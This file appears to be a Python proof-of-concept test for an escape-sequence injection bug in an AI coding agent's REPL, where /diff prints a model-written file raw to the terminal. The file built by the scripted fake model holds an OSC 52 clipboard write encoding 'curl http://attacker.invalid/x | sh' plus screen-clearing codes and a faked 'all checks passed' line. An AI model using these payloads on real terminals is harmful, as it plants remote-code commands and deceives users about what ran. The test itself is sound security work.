#!/usr/bin/env python3
"""The REPL's /diff prints file contents (written by the model's sandboxed commands) to the
terminal without neutralising escape sequences (ReplRenderer.diff_text -> rich Text keeps ESC).
A file holding OSC 52 writes the user's clipboard ("curl ...|sh" pasted later into a shell),
and CSI/DECSTBM sequences can repaint the screen (fake codex output, hide lines).
Drives the real REPL in a pty against the scripted model, then types /diff.
Exit 1 while vulnerable."""
import json, os, pty, select, signal, struct, subprocess, sys, tempfile, time, shutil, fcntl, termios

CODEX = os.environ.get("CODEX_BIN", os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "..", "dist", "codex"))
HERE = os.path.dirname(os.path.abspath(__file__))
T = tempfile.mkdtemp(prefix="f12.", dir="/var/tmp")
home, chome, ws = (os.path.join(T, d) for d in ("home", "codexhome", "ws"))
for d in (home, chome, ws):
    os.makedirs(d)
subprocess.run(["git", "init", "-q", ws], check=True)
OSC52 = "\x1b]52;c;Y3VybCBodHRwOi8vYXR0YWNrZXIuaW52YWxpZC94IHwgc2gK\x1b\\"   # ST-terminated; "curl http://attacker.invalid/x | sh"
content = "notes\n" + OSC52 + "\x1b[2J\x1b[Hcodex: all checks passed\n"
script = [[{"shell": ["python3", "-c", "open('notes.txt','w').write(%r)" % content]}], [{"text": "wrote notes.txt"}]]
sp = os.path.join(T, "script.json")
json.dump(script, open(sp, "w"))
pf = os.path.join(T, "port")
srv = subprocess.Popen([sys.executable, os.path.join(HERE, "fakemodel.py"), sp, pf])
for _ in range(50):
    if os.path.exists(pf) and open(pf).read():
        break
    time.sleep(0.1)
port = open(pf).read()
open(os.path.join(chome, "config.toml"), "w").write(
    'model = "gpt-5"\nmodel_provider = "fake"\n[model_providers.fake]\nname = "fake"\n'
    'base_url = "http://127.0.0.1:%s/v1"\nwire_api = "responses"\nenv_key = "FAKE_API_KEY"\n' % port)
env = dict(os.environ, HOME=home, CODEX_HOME=chome, FAKE_API_KEY="x", TERM="xterm-256color")
pid, fd = pty.fork()
if pid == 0:
    os.chdir(ws)
    os.execve(CODEX, [CODEX, "-s", "workspace-write", "-a", "on-request", "--trust", "write notes"], env)
fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack("HHHH", 40, 120, 0, 0))

def read_until(pred, secs):
    buf = b""
    end = time.time() + secs
    while time.time() < end:
        r, _, _ = select.select([fd], [], [], 0.3)
        if r:
            try:
                chunk = os.read(fd, 65536)
            except OSError:
                break
            if not chunk:
                break
            buf += chunk
            if pred(buf):
                time.sleep(0.3)
                break
    return buf

out = read_until(lambda b: b"wrote notes.txt" in b, 40)
os.write(fd, b"/diff\r")
out2 = read_until(lambda b: b"all checks passed" in b, 15)
for sig in (signal.SIGTERM, signal.SIGKILL):
    try:
        os.kill(pid, sig)
    except OSError:
        pass
    time.sleep(0.3)
srv.kill()
shutil.rmtree(T, ignore_errors=True)
raw = OSC52.encode() in out2
if os.environ.get("DEBUG"): print(repr(out2[-1500:]))
print("model turn finished:", b"wrote notes.txt" in out, "| /diff output has the raw OSC 52 (clipboard write):", raw)
if raw:
    print("VULNERABLE: /diff sends the file's escape sequences to the terminal")
    sys.exit(1)
print("fixed" if b"all checks passed" in out2 or b"notes" in out2 else "inconclusive")
sys.exit(0 if b"notes" in out2 else 2)
